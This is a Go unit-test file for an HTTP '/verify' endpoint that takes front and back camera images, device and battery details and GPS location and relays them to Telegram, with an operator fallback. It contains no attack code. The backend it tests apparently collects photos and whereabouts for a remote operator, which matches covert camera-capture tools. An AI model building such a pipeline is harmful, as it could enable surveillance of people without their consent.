package httpapi

import (
	"errors"
	"net/http"
	"strings"
	"testing"
)

func validSubmission(front, back []string) map[string]any {
	return map[string]any{
		"frontImages": front,
		"backImages":  back,
		"deviceInfo": map[string]any{
			"model": "Pixel 9",
			"os":    "Android 15",
			"battery": map[string]any{
				"level":    85,
				"charging": true,
			},
		},
		"location": map[string]any{
			"latitude":  52.52,
			"longitude": 13.405,
			"accuracy":  5,
		},
	}
}

func TestVerifyCapsFrontAndWarnsOnEmptyBack(t *testing.T) {
	f := newFixture(t)

	front := make([]string, 5)
	for i := range front {
		front[i] = dataURI("img")
	}

	rec, body := f.do(t, http.MethodPost, "/verify", validSubmission(front, nil))
	if rec.Code != http.StatusOK {
		t.Fatalf("status = %d, body = %s", rec.Code, rec.Body.String())
	}
	if got := body["receivedImages"]; got != float64(4) {
		t.Fatalf("receivedImages = %v, want 4", got)
	}

	if len(f.batch.batches) != 1 || f.batch.batches[0] != (recordedBatch{label: "Front", count: 4}) {
		t.Fatalf("batches = %+v, want one Front batch of 4", f.batch.batches)
	}

	var warned bool
	for _, text := range f.relay.texts {
		if strings.Contains(text, "No back camera images received") {
			warned = true
		}
		if strings.Contains(text, "No front camera images received") {
			t.Fatalf("unexpected front warning: %q", text)
		}
	}
	if !warned {
		t.Fatalf("missing back warning, relayed texts: %q", f.relay.texts)
	}

	// summary + back warning + final confirmation
	if len(f.relay.texts) != 3 {
		t.Fatalf("relayed %d texts, want 3: %q", len(f.relay.texts), f.relay.texts)
	}
	if !strings.Contains(f.relay.texts[len(f.relay.texts)-1], "4 image(s)") {
		t.Fatalf("final confirmation = %q, want total of 4", f.relay.texts[len(f.relay.texts)-1])
	}
}

func TestVerifyMissingLocation(t *testing.T) {
	f := newFixture(t)

	sub := validSubmission(nil, nil)
	delete(sub, "location")

	rec, body := f.do(t, http.MethodPost, "/verify", sub)
	if rec.Code != http.StatusBadRequest {
		t.Fatalf("status = %d, want 400", rec.Code)
	}
	if body["success"] != false {
		t.Fatalf("body = %v", body)
	}
	if f.totalSends() != 0 {
		t.Fatalf("expected no sends, relay=%q batch=%+v direct=%q", f.relay.texts, f.batch.batches, f.direct.posts)
	}
}

func TestVerifyNonArrayImagesDegradesToNone(t *testing.T) {
	f := newFixture(t)

	sub := validSubmission(nil, nil)
	sub["frontImages"] = "not-an-array"

	rec, body := f.do(t, http.MethodPost, "/verify", sub)
	if rec.Code != http.StatusOK {
		t.Fatalf("status = %d, body = %s", rec.Code, rec.Body.String())
	}
	if got := body["receivedImages"]; got != float64(0) {
		t.Fatalf("receivedImages = %v, want 0", got)
	}
	if len(f.batch.batches) != 0 {
		t.Fatalf("batches = %+v, want none", f.batch.batches)
	}
}

func TestVerifyRelayFailureNotifiesOperator(t *testing.T) {
	f := newFixture(t)
	f.relay.err = errors.New("telegram is down")
	f.operator.err = errors.New("operator chat also down") // must be swallowed

	rec, body := f.do(t, http.MethodPost, "/verify", validSubmission(nil, nil))
	if rec.Code != http.StatusInternalServerError {
		t.Fatalf("status = %d, want 500", rec.Code)
	}
	if msg, _ := body["error"].(string); !strings.Contains(msg, "telegram is down") {
		t.Fatalf("error = %v, want underlying message", body["error"])
	}
	if len(f.operator.texts) != 1 {
		t.Fatalf("operator notifications = %d, want 1", len(f.operator.texts))
	}
}

func TestVerifyBatchFailureAbortsSequence(t *testing.T) {
	f := newFixture(t)
	f.batch.err = errors.New("photo rejected")

	rec, _ := f.do(t, http.MethodPost, "/verify", validSubmission([]string{dataURI("a")}, nil))
	if rec.Code != http.StatusInternalServerError {
		t.Fatalf("status = %d, want 500", rec.Code)
	}
	// Summary was sent, then the batch failed; no warning or confirmation after.
	if len(f.relay.texts) != 1 {
		t.Fatalf("relayed texts = %q, want summary only", f.relay.texts)
	}
}
